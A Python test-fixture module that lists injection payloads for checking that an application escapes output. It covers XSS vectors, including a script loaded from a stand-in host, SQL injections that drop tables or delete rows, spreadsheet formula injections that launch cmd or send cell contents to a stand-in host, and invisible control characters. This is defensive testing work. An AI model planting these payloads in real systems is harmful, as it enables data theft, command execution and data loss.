"""Texts that do harm where they are not escaped; every one is to be shown, stored and exported as plain text.

Where one of `XSS` is live in a page, the page has the property `MARK` of its window set, opens a dialog, or asks
`ELSEWHERE` for something.
"""

from __future__ import annotations

MARK = "charpyWasHere"
ELSEWHERE = "elsewhere.invalid"

_DO = f"window.{MARK}=1"

XSS = (
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f'"><script>{_DO}</script>',
    f"'><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"--><script>{_DO}</script><!--",
    f"]]><script>{_DO}</script>",
    f"<ScRiPt >{_DO}</ScRiPt>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<script src=//{ELSEWHERE}/a.js></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=https://{ELSEWHERE}/pixel.png>",
    f"<svg onload={_DO}>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><script>{_DO}</script></svg>",
    f"<math><mi xlink:href=javascript:{_DO}>x</mi></math>",
    f"<body onload={_DO}>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f"<iframe src=javascript:parent.{MARK}=1></iframe>",
    f"<details open ontoggle={_DO}>x</details>",
    f"<video><source onerror={_DO}></video>",
    f'" onfocus={_DO} autofocus tabindex=0 x="',
    f"' onmouseover={_DO} style='position:fixed;inset:0' x='",
    f"javascript:{_DO}//",
    f"data:text/html,<script>{_DO}</script>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
    f"<base href=https://{ELSEWHERE}/><link rel=stylesheet href=a.css>",
    f"{{{{ ''.__class__.__mro__ }}}}{{% set x = 1 %}}<form action=//{ELSEWHERE}/><button autofocus>{_DO}</button>",
)
"""Scripts, handlers, foreign addresses and templates: for element text, attributes, titles, comments and templates."""

SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE answers; --",
    "'); DELETE FROM participants; --",
    "1; UPDATE participants SET condition='benign'",
    "' UNION SELECT value, 1, 2, 3, 4, 5 FROM meta --",
    "admin'/*",
    "\\'; ATTACH DATABASE 'x.db' AS x; --",
    "%' AND 1=(SELECT COUNT(*) FROM questions) AND '%'='",
)
"""For codes, panel ids, positions and tokens."""

CSV = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("https://elsewhere.invalid/?x="&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'x",=1+1,"y',
    "x\n=1+1",
)
"""Cells that a spreadsheet would run, and ones that make a cell of their own where quoting is missing."""

HIDDEN = ("\u202egnp.elpmaxe", "\u2066benign\u2069", "\x1b[31mred\x1b[0m", "\x07", "zero\u200bwidth", "\u0000nul")
"""Characters without a shape: marks that turn the direction of writing, escapes of a terminal, controls."""
